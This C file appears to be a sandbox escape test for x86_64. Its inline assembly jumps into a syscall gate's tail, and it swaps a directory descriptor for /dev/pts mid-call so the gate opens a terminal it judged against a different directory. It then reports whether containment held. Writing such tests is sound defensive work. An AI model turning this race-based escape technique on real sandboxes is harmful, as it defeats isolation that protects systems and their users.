/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * An open that was judged returns by the gate's tail. The instruction before it is there for
 * restarts by the kernel: the attacker jumps to it with the same arguments, once another
 * directory, that of terminals, lies under the same descriptor.
 */
#include <sys/ioctl.h>
#include <sys/sysmacros.h>

#include "escape.h"

#if !defined(__x86_64__)
int main(void)
{
	skip("written for x86_64");
}
#else
__asm__(".pushsection .text\n"
	".globl attack_openat, attack_returned, attack_again\n"
	"attack_openat:\n" /* (dirfd, path, flags) */
	"	mov $257, %eax\n"
	"	xor %r10d, %r10d\n"
	"	syscall\n"
	"attack_returned:\n"
	"	ret\n"
	"attack_again:\n" /* (dirfd, path in slot, slot, where) */
	"	mov %rcx, %rax\n"
	"	mov $24, %r10d\n"
	"	mov %rax, %r11\n"
	"	mov $437, %eax\n"
	"	jmp *%r11\n"
	".popsection\n");
long attack_openat(long dirfd, const char *path, long flags);
extern char attack_returned[];
long attack_again(long dirfd, uint64_t path, uint64_t slot, uint64_t where);

static uint64_t find_again(uint64_t gate)
{
	/* syscall; mov 32(%rdx), %rdi */
	static const unsigned char code[] = { 0x0f, 0x05, 0x48, 0x8b, 0x7a, 0x20 };
	const unsigned char *start = (const void *)(uintptr_t)(gate + GATE_CODE_);
	const unsigned char *found = memmem(start, 4096, code, sizeof(code));

	return found == NULL ? 0 : (uint64_t)(uintptr_t)found;
}

static uint64_t gate, again;
static int terminals, directory;
static const char *tty;

/* Registers of another time may be what it ends up with: in a process of its own. */
static _Noreturn void attack(void)
{
	int working = dup(directory);
	uint64_t slot = 0;

	if (attack_openat(working, tty, O_RDWR | O_NOCTTY | O_NONBLOCK) < 0)
		broken("open");
	for (uint64_t i = 0; i < 256 && slot == 0; i++) {
		uint64_t at = gate + GATE_SLOTS_ + i * 0x8000;

		/* Ours: it returns where our call does. */
		if (*(uint64_t *)(uintptr_t)(at + 64) == (uint64_t)(uintptr_t)attack_returned &&
		    strcmp((const char *)(uintptr_t)(at + 128), tty) == 0)
			slot = at;
	}
	dup2(terminals, working);
	for (int i = 0; i < 3 && slot != 0; i++) {
		int fd = (int)attack_again(working, slot + 128, slot, again);

		if (fd >= 0 && isatty(fd))
			_exit(42);
	}
	_exit(0);
}

int main(void)
{
	gate = find_gate();
	again = find_again(gate);
	tty = given("ESCAPE_TTY");
	if (again == 0)
		skip("no tail");
	enter_scratch();
	make_file(tty, "no terminal");
	terminals = open("/dev/pts", O_PATH | O_DIRECTORY);
	directory = open(".", O_PATH | O_DIRECTORY);
	if (terminals < 0 || directory < 0)
		broken("directories");
	for (int round = 0; round < 50; round++) {
		pid_t pid = fork();
		int status;

		if (pid == 0)
			attack();
		if (waitpid(pid, &status, 0) == pid && WIFEXITED(status) &&
		    WEXITSTATUS(status) == 42)
			escaped("another terminal, %s, was opened", tty);
	}
	contained();
}
#endif
